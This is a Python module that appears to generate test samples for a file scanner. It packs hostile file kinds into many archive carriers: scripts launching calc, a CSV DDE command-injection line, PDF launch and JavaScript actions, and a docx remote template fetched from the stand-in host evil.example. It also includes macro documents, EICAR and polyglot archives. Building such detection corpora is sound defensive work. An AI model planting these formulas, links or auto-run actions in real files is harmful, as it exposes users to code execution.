"""Each kind of hostile file inside each kind of archive that may come in."""

import base64

from . import compound, media
from .hostile_archives import entry, tarball
from .hostile_images import ext, fat
from .hostile_office import with_macros
from .hostile_programs import java, linux, windows
from .hostile_text import message
from .office import macros, ole_native, open_document, open_xml, record, word_stream, workbook
from .oldarchives import lha, rar4, rar5, xar
from .payload import EICAR, GZIPPED, LONG, LONG_ZIPPED, TEXT, ZIPPED, gz, plain_zip
from .pdf import build as pdf
from .tools import made, piped
from .zipfield import Member, build

PROGRAM = ("embedded-program", "infected", "not-opened", "polyglot")
SCRIPT = ("embedded-program", "active-content", "not-opened", "suspicious", "macro")
CLOSED = ("infected", "not-opened", "damaged", "readers-disagree")
LOCKED = ("encrypted-archive", "encrypted-document", "not-opened", "damaged")
BROKEN = ("broken-media", "damaged", "readers-disagree", "polyglot", "infected", "not-opened")
CODED = ("infected", "active-content", "embedded-program", "suspicious", "not-opened")


def programs():
    link = b"\x4c\0\0\0\1\x14\2\0\0\0\0\0\xc0\0\0\0\0\0\0\x46" + bytes(200)
    return [
        ("Windows program", "a.exe", windows(), PROGRAM),
        ("Windows program as text", "a.txt", windows(), PROGRAM),
        ("Linux program", "a.dat", linux(), PROGRAM),
        ("Java class", "a.txt", java(), PROGRAM),
        ("batch file", "a.bat", b"@echo off\r\nstart calc.exe\r\n", SCRIPT),
        ("PowerShell", "a.ps1", b"Start-Process calc\r\n", SCRIPT),
        ("JavaScript", "a.js", b"new ActiveXObject('WScript.Shell').Run('calc');\n", SCRIPT),
        ("shell script", "a.txt", b"#!/bin/sh\nid\n", SCRIPT),
        ("shortcut", "a.lnk", link, PROGRAM),
        ("shortcut as picture", "a.png", link, PROGRAM),
        ("link to a page", "a.url", b"[InternetShortcut]\r\nURL=http://evil.example/\r\n", SCRIPT),
        ("autorun.inf", "autorun.inf", b"[autorun]\r\nopen=a.exe\r\n", SCRIPT),
        ("HTML application", "a.hta", b"<html><script>a()</script></html>", SCRIPT),
        ("page with a script", "a.html", b"<html><script>a()</script></html>", SCRIPT),
        ("page with a script as text", "a.txt", b"<html><script>a()</script></html>", SCRIPT),
        (
            "drawing with a script",
            "a.svg",
            b'<svg xmlns="http://www.w3.org/2000/svg"><script>a()</script></svg>',
            SCRIPT,
        ),
    ]


def documents():
    xlm = compound.build({"Workbook": workbook(sheet=b"\0\1")})
    package = compound.build(
        {
            "WordDocument": word_stream(),
            "ObjectPool": {"_1": {"\1Ole10Native": ole_native("a.zip", ZIPPED)}},
        }
    )
    remote = open_xml("docx", links=[("attachedTemplate", "http://evil.example/a.dotm", True)])
    active = ("active-content", "embedded-program", "infected", "suspicious", "macro")
    return [
        ("docx with macros", "a.docx", with_macros("docx"), ("macro", "infected")),
        (
            "xls with macros",
            "a.xls",
            compound.build({"Workbook": workbook(), "_VBA_PROJECT_CUR": macros()}),
            ("macro", "infected"),
        ),
        ("xls with an XLM macro sheet", "a.xls", xlm, ("macro",)),
        ("doc with a package", "a.doc", package, active),
        ("docx with a remote template", "a.docx", remote, active),
        (
            "odt with macros",
            "a.odt",
            open_document(parts=[("Basic/Standard/M.xml", b"<a/>")]),
            ("macro",),
        ),
        (
            "docx with an infected part",
            "a.docx",
            open_xml("docx", [("a/b.txt", LONG)]),
            ("infected",),
        ),
        (
            "encrypted docx",
            "a.docx",
            compound.build({"EncryptionInfo": TEXT, "EncryptedPackage": TEXT * 9}),
            LOCKED,
        ),
        (
            "encrypted xls",
            "a.xls",
            compound.build({"Workbook": workbook(record(0x2F, bytes(54)))}),
            LOCKED,
        ),
        (
            "PDF with a script",
            "a.pdf",
            pdf("/OpenAction <</S /JavaScript /JS (a)>>"),
            ("pdf-action", "suspicious"),
        ),
        (
            "PDF that launches",
            "a.pdf",
            pdf("/OpenAction <</S /Launch /F (a)>>"),
            ("pdf-action", "suspicious"),
        ),
        (
            "PDF with an attachment",
            "a.pdf",
            pdf("/Names <</EmbeddedFiles 9 0 R>>"),
            ("pdf-action", "suspicious"),
        ),
        ("PDF that is encrypted", "a.pdf", pdf(trailer="/Encrypt 5 0 R"), LOCKED),
        (
            "RTF with an object",
            "a.doc",
            b"{\\rtf1{\\object\\objdata 01}}",
            active + ("not-opened",),
        ),
        (
            "mail with an infected zip",
            "a.eml",
            message(base64.encodebytes(ZIPPED), "base64"),
            ("infected",),
        ),
        ("text with base64", "a.txt", b"text\n" + base64.encodebytes(ZIPPED), CODED),
        (
            "PGP message",
            "a.txt",
            b"-----BEGIN PGP MESSAGE-----\n\n"
            + base64.encodebytes(bytes(range(200)))
            + b"-----END PGP MESSAGE-----\n",
            LOCKED,
        ),
        ("table that runs a command", "a.csv", b"=cmd|'/c calc'!A1,2\n", SCRIPT),
    ]


def containers():
    filters = [
        ("lz4", ["lz4", "-qc"]),
        ("lz", ["lzip", "-c"]),
        ("lzo", ["lzop", "-c"]),
        ("Z", ["compress", "-c"]),
        ("lzma", ["xz", "--format=lzma", "-c"]),
        ("br", ["brotli", "-c"]),
    ]
    found = [(name, "a.txt." + name, piped(command, LONG * 3), CLOSED) for name, command in filters]
    locked = made({"a.txt": LONG}, ["7z", "a", "-psecret", "out.7z", "a.txt"], result="out.7z")
    return found + [
        ("clear payload", "a.txt", EICAR, ("infected",)),
        ("infected zip", "a.zip", LONG_ZIPPED, ("infected",)),
        ("infected zip as text", "a.txt", ZIPPED, ("infected",)),
        ("infected gzip", "a.gz", GZIPPED, ("infected",)),
        ("RAR 4", "a.rar", rar4("a.zip", ZIPPED), CLOSED),
        ("RAR 5 as text", "a.txt", rar5("a.zip", ZIPPED), CLOSED),
        ("lha", "a.dat", lha("a.zip", ZIPPED), CLOSED),
        ("xar", "a.dat", xar("a.txt", EICAR), CLOSED),
        ("encrypted 7z", "a.7z", locked, LOCKED),
        (
            "encrypted zip",
            "a.zip",
            made({"a.txt": LONG}, ["zip", "-qP", "secret", "out.zip", "a.txt"], result="out.zip"),
            LOCKED,
        ),
        (
            "zip with a hidden member",
            "a.zip",
            build([Member("b.txt", TEXT), Member("a.txt", LONG, listed=False)]),
            BROKEN,
        ),
        ("zip with LZMA", "a.zip", build([Member("a.txt", LONG, 14)]), CLOSED),
        ("two zips in a row", "a.zip", plain_zip([("b.txt", TEXT)]) + ZIPPED, BROKEN),
        ("second member of a gzip", "a.gz", gz(TEXT) + gz(LONG), BROKEN),
        ("FAT image", "a.img", fat(), CLOSED),
        ("ext4 image as text", "a.txt", ext("ext4"), CLOSED),
        (
            "squashfs",
            "a.dat",
            made({"tree/a.zip": ZIPPED}, ["mksquashfs", "tree", "out", "-quiet", "-no-progress"]),
            CLOSED,
        ),
        (
            "disc image",
            "a.iso",
            made({"tree/a.zip": ZIPPED}, ["genisoimage", "-quiet", "-o", "out", "tree"]),
            CLOSED,
        ),
        (
            "qcow2",
            "a.dat",
            made({"in": fat()}, ["qemu-img", "convert", "-f", "raw", "-O", "qcow2", "in", "out"]),
            CLOSED,
        ),
        ("jpeg with a zip behind", "a.jpg", media.jpeg() + ZIPPED, BROKEN),
        ("jpeg with a RAR behind", "a.jpg", media.jpeg() + rar4("a", EICAR * 2), BROKEN),
        ("png cut in half", "a.png", media.png()[:100], BROKEN),
        (
            "bytes of unknown kind",
            "a.dat",
            bytes(range(1, 256)) * 9,
            ("not-opened", "damaged", "embedded-program"),
        ),
    ]


def carriers():
    """Name, name of the outer file, and what makes it of a member's name and bytes."""

    def tar(name, data):
        return tarball(entry("通知.txt", TEXT), entry(name, data), entry("b.txt", TEXT))

    def seven(name, data):
        return made(
            {"通知.txt": TEXT, name: data}, ["7z", "a", "out.7z", "通知.txt", name], result="out.7z"
        )

    return [
        ("7z", "材料.7z", seven),
        ("tar", "材料.tar", tar),
        ("tar.gz", "材料.tar.gz", lambda n, d: gz(tar(n, d))),
        ("tar.xz", "材料.tar.xz", lambda n, d: piped(["xz", "-0c"], tar(n, d))),
        ("tar.zst", "材料.tar.zst", lambda n, d: piped(["zstd", "-qc"], tar(n, d))),
        ("gz", "材料.gz", lambda n, d: gz(d)),
        ("bz2", "材料.bz2", lambda n, d: piped(["bzip2", "-c"], d)),
        ("zip in a 7z", "材料.7z", lambda n, d: seven("a.zip", plain_zip([(n, d)]))),
    ]


def cases(corpus):
    inner = programs() + documents() + containers()
    for carrier, shown, pack in carriers():
        for name, member, data, reasons in inner:
            # A stream without names cannot say that its text is a script.
            if (
                carrier in ("gz", "bz2")
                and reasons is SCRIPT
                and b"<script" not in data
                and b"#!" not in data
            ):
                continue
            more = (
                ("damaged",)
                if carrier in ("gz", "bz2") and name in ("bytes of unknown kind",)
                else ()
            )
            corpus.add("%s with: %s" % (carrier, name), shown, pack(member, data), *reasons, *more)
